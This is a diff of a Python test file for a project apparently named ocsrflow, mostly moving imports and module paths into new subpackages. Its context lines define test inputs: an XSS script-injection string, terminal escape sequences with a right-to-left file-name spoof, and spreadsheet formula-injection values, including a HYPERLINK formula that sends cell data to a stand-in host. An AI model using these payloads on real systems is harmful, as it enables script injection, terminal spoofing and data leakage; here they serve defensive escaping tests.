@@ -1,7 +1,7 @@
 """Texts from elsewhere are texts: on pages, in figures, on a terminal and in a spreadsheet.
 
 Whole pages made of nothing but scripts are looked at in tests/browser/test_pages.py (the report) and
-tests/unit/test_browse.py (data sets).
+tests/unit/report/test_browse.py (data sets).
 """
 
 import ast
@@ -18,18 +18,18 @@ import pytest
 from conftest import REPOSITORY
 from hypothesis import given
 from hypothesis import strategies as st
-from ocsrflow import figures
-from ocsrflow.answers import Answer, write_answers
-from ocsrflow.errors import UserError, visible
-from ocsrflow.own_pictures import find
-from ocsrflow.pages import template
-from ocsrflow.tables import FORMULA, write_csv, write_rejects
+from ocsrflow.pictures.picture_files import find
+from ocsrflow.reader.output_formats import Answer, write_answers
+from ocsrflow.report import figures
+from ocsrflow.report.html import template
+from ocsrflow.runtime.csv_tables import FORMULA, write_csv, write_rejects
+from ocsrflow.runtime.errors import UserError, visible
 from rdkit import Chem
 
 EVIL = "</text></svg><script>alert(1)</script><img src=x onerror=alert(2)> \" ' & ]]>"
 ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\r\x08\u202egnp.exe"
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x"&A1)')
-TEMPLATES = REPOSITORY / "workflow/ocsrflow/templates"
+TEMPLATES = REPOSITORY / "workflow/ocsrflow/report/templates"
 
 
 def test_templates_escape_everything_but_our_own_figures() -> None:
@@ -81,7 +81,10 @@ def test_a_hostile_file_name_is_told_as_text(tmp_path: Path) -> None:
     words = ["--form", "pictures", "--pictures", str(tmp_path / "pictures"), "--max-length", "9"]
     words += [word for name in ("kept", "lengths", "rejects") for word in (f"--{name}", str(tmp_path / name))]
     run = subprocess.run(
-        [sys.executable, "-m", "ocsrflow.filter", str(table), *words], capture_output=True, text=True, check=False
+        [sys.executable, "-m", "ocsrflow.corpus.filter", str(table), *words],
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert run.returncode == 1
     assert "no picture" in run.stderr
